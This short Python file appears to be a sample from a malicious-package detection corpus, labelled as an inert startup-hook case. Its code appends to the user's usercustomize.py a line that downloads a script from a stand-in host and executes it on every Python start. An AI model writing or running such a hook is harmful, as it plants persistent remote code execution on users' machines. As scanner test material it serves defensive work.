# pkgguard corpus 609 (startup-hook), modelled on [startup-hooks]; inert, never run.
import os
import site

target = site.getusersitepackages()
os.makedirs(target, exist_ok=True)
with open(os.path.join(target, "usercustomize.py"), "a") as fh:
    fh.write(
        "import urllib.request as _u\n"
        "exec(_u.urlopen('https://cfg-host.example/u.py').read())\n"
    )
